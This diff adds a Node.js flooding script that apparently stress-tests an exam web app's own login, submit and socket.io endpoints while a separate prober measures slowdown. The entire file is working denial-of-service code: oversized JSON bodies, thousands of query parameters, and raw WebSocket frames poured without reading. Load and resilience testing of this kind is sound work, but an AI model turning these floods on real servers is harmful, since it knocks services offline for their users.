@@ -1,0 +1,73 @@
+/**
+ * Attacks one server until it is killed, from a process of its own, so that the prober beside it keeps its time.
+ * node flood.mjs KIND URL TOKEN ATTEMPT-ID
+ */
+import { connect } from 'node:net';
+import { setTimeout as delay } from 'node:timers/promises';
+
+const [kind, url, token, attemptId] = process.argv.slice(2);
+const { hostname, port } = new URL(url);
+const objectOf = (keys) =>
+  JSON.stringify(Object.fromEntries(Array.from({ length: keys }, (_, n) => [n.toString(36), 0])));
+const MANY_KEYS = objectOf(100_000);
+
+const floods = {
+  'many keys': () => posting('/api/student/login', MANY_KEYS, 1_000),
+  'some keys': () => posting('/api/student/login', objectOf(9_000), 250),
+  'keys in the address': () => posting(`/api/student/register?${'&a='.repeat(4_000)}`, '{}', 100),
+  'answers as an object': () => posting(submit(), `{"answers":${MANY_KEYS}}`, 1_000),
+  'empty answers': () => posting(submit(), `{"answers":[${Array(330_000).fill('{}').join()}]}`, 1_000),
+  'refused connects': () => webSocket((socket) => pouring(socket, '40{"token":"junk"}')),
+  'watch and unwatch': () => [1, 2, 3].forEach(() => webSocket(watching)),
+};
+await floods[kind]();
+
+function submit() {
+  return `/api/attempts/${attemptId}/submit`;
+}
+
+/** One body after the other, on connections of their own. */
+async function posting(path, body, everyMs) {
+  for (;;) {
+    const socket = connect(Number(port), hostname).on('error', () => {});
+    socket.end(
+      `POST ${path} HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${token}\r\nconnection: close\r\n` +
+        `content-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
+    );
+    socket.resume();
+    await delay(everyMs);
+  }
+}
+
+/** A WebSocket of bare bytes, opened again as often as it is closed. */
+function webSocket(opened) {
+  const socket = connect(Number(port), hostname).on('error', () => {});
+  socket.write(
+    `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: ${hostname}\r\nconnection: Upgrade\r\n` +
+      'upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
+  );
+  socket.once('data', () => opened(socket));
+  socket.once('close', () => setTimeout(() => webSocket(opened), 20));
+}
+
+/** Never reads what it asks for. */
+function watching(socket) {
+  socket.write(frame(`40${JSON.stringify({ token })}`));
+  socket.once('data', () => socket.pause());
+  setTimeout(() => pouring(socket, '42["leaderboard:watch"]', '42["leaderboard:unwatch"]'), 500);
+}
+
+/** As fast as the server reads. */
+function pouring(socket, ...messages) {
+  const chunk = Buffer.concat(Array.from({ length: 1_000 }, (_, n) => frame(messages[n % messages.length])));
+  const pour = () => {
+    while (!socket.destroyed && socket.write(chunk));
+  };
+  socket.on('drain', pour);
+  pour();
+}
+
+/** A masked text frame; a mask of zeros leaves the text as it is. */
+function frame(text) {
+  return Buffer.concat([Buffer.from([0x81, 0x80 | Buffer.byteLength(text), 0, 0, 0, 0]), Buffer.from(text)]);
+}
